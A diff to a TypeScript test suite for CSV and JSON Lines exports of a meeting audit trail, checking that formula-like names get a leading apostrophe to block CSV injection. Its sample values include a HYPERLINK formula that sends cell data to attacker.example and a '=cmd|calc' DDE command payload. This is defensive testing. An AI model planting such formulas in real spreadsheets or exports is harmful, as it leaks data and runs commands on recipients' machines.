@@ -64,12 +64,17 @@ describe('exports of the trail', () => {
 
   it('writes a name or a text a spreadsheet would run as a formula with a leading apostrophe (CSV injection); JSON Lines as typed', async () => {
     await appendTo(t.store, 'meeting-kl.rada-1', ['MeetingClosed'], { actor: 'p-evil' });
+    await appendTo(t.store, 'meeting-kl.rada-1', ['MeetingReopened'], { actor: 'p-wide' });
+    await appendTo(t.store, 'meeting-kl.rada-1', ['MinutesApproved'], { actor: 'p-lines' });
     const name = '=HYPERLINK("http://attacker.example/?"&A1,"open")';
-    const people = (personId: string) => ({ name: personId === 'p-evil' ? name : '+48 600 000 000', erased: false });
+    const names: Record<string, string> = { 'p-evil': name, 'p-wide': '＝SUM(A1:A9)', 'p-lines': '-2+3\n=cmd|calc', p1: '+48 600 000 000' };
+    const people = (personId: string) => ({ name: names[personId] ?? ' Anna, "Nowak" ', erased: false });
     const prepared = (await prepareExport(t.store, 'kl', { sealing: { key }, people }))!;
     const rows = parse(await text(prepared.stream('csv')), { columns: true, bom: true }) as Record<string, string>[];
     expect(rows.find((r) => r.actor === 'p-evil')!.actor_name).toBe(`'${name}`);
     expect(rows.find((r) => r.actor === 'p1')!.actor_name).toBe("'+48 600 000 000");
+    expect(rows.find((r) => r.actor === 'p-wide')!.actor_name).toBe("'＝SUM(A1:A9)");
+    expect(rows.find((r) => r.actor === 'p-lines')!.actor_name).toBe("'-2+3\n=cmd|calc");
     // Nothing else is touched: every other field reads as written.
     expect(rows.every((r) => !r.position.startsWith("'") && !r.act_en.startsWith("'"))).toBe(true);
     const lines = (await text(prepared.stream('jsonl'))).trimEnd().split('\n').map((l) => JSON.parse(l));
